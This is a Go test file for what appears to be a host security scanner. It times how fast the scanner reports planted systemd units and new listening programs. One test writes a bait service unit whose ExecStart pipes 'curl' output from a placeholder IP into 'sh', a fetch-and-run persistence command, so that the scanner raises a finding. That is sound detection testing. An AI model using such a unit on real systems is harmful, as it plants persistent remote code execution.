package agent

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"picket/scanner"
	"picket/scanner/device"
)

// changesAsked is how many changes the tests of watching make.
func changesAsked(t *testing.T) int {
	t.Helper()
	text := os.Getenv("PICKET_CHANGES")
	if text == "" {
		return 3
	}
	n, err := strconv.Atoi(text)
	if err != nil {
		t.Fatalf("PICKET_CHANGES: %v", err)
	}
	return n
}

// delays are how long changes took to be events.
type delays []time.Duration

func (d delays) String() string {
	d = slices.Sorted(slices.Values(d))
	return fmt.Sprintf("%d changes: median %v, p99 %v, longest %v", len(d), d[len(d)/2].Round(time.Millisecond),
		d[len(d)*99/100].Round(time.Millisecond), d[len(d)-1].Round(time.Millisecond))
}

// timeChanges makes changes one after the other, and gives how long each took from when change
// returned until an event with both texts that it gave was delivered.
func timeChanges(t *testing.T, b *bench, change func(i int) (what, about string)) (took delays) {
	t.Helper()
	for i := range changesAsked(t) {
		before := len(b.news(t))
		what, about := change(i)
		began := time.Now()
		eventually(t, fmt.Sprint(i, " ", what, " ", about), func() bool {
			return slices.ContainsFunc(b.news(t)[before:], func(s string) bool { return strings.Contains(s, what) && strings.Contains(s, about) })
		})
		took = append(took, time.Since(began))
	}
	return took
}

// TestWatchTellsPlantedUnits plants units and takes them away again. PICKET_CHANGES and the log are
// as in the test of dpkg.
func TestWatchTellsPlantedUnits(t *testing.T) {
	t.Parallel()
	b := newBench(t, smallSystem(t, 1000))
	b.config.Watch = 250 * time.Millisecond // the default
	d, stop := b.start(t)
	eventually(t, "the first scan", func() bool {
		return d.scans.Load() > 0 && strings.Contains(b.log.String(), "msg=watching directories")
	})
	took := timeChanges(t, b, func(i int) (what, about string) {
		name := fmt.Sprintf("/etc/systemd/system/helper-%d.service", i/2)
		if i%2 == 1 {
			if err := os.Remove(b.root + name); err != nil {
				t.Fatal(err)
			}
			return "Finding Close", filepath.Base(name)
		}
		replace(t, b.root, name, "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/x | sh'\n[Install]\nWantedBy=multi-user.target\n")
		return "Finding Create", filepath.Base(name)
	})
	t.Logf("%s after the unit was written or removed", took)
	if err := stop(); err != nil {
		t.Error(err)
	}
}

// TestSampleTellsListeners has one program after the other listen. PICKET_CHANGES is as in the test of dpkg;
// what the log says has the rest of the sampling interval in it, a second.
func TestSampleTellsListeners(t *testing.T) {
	t.Parallel()
	if os.Geteuid() != 0 {
		t.Skip("needs root, to see whose sockets are")
	}
	b := newBench(t, smallSystem(t, 10))
	open := b.open
	b.open = func(ctx context.Context) (scanner.Device, error) {
		dev, err := open(ctx)
		if err != nil {
			return nil, err
		}
		live, err := device.Live(ctx, device.LiveOptions{})
		if err != nil {
			closeDevice(dev)
			return nil, err
		}
		return partlyLive{dev, live, []scanner.Source{scanner.SourceProcesses, scanner.SourceSockets}}, nil
	}
	b.glance, b.config.SampleInterval = device.Glance, time.Second
	d, stop := b.start(t)
	eventually(t, "the first scan", func() bool { return d.scans.Load() > 0 })
	programs := t.TempDir()
	copyProgram(t, "/proc/self/exe", programs+"/first")
	var last *exec.Cmd
	took := timeChanges(t, b, func(i int) (what, about string) {
		if last != nil {
			if err := last.Process.Kill(); err != nil {
				t.Fatal(err)
			}
			last.Wait() // it was killed
		}
		name := filepath.Join(programs, fmt.Sprintf("listener-%d", i))
		if err := os.Link(programs+"/first", name); err != nil { // a finding is about a program
			t.Fatal(err)
		}
		last = listener(t, name)
		return "Finding Create", name
	})
	t.Logf("%s after the program listened", took)
	if err := stop(); err != nil {
		t.Error(err)
	}
}

// listener starts a program that listens on loopback, and waits until it does.
func listener(t *testing.T, name string) *exec.Cmd {
	t.Helper()
	cmd := exec.Command(name, "-test.run=^TestListensForAnother$", "-test.v")
	cmd.Env = append(os.Environ(), "PICKET_LISTEN=yes")
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	for lines := bufio.NewScanner(out); lines.Scan(); {
		if strings.Contains(lines.Text(), "listening") {
			return cmd
		}
	}
	t.Fatalf("%s does not listen", name)
	return nil
}

// TestListensForAnother is what TestSampleTellsListeners starts.
func TestListensForAnother(t *testing.T) {
	if os.Getenv("PICKET_LISTEN") == "" {
		t.Skip("is started by another test")
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	fmt.Println("listening")
	for { // until it is killed
		if c, err := l.Accept(); err == nil {
			c.Close()
		}
	}
}
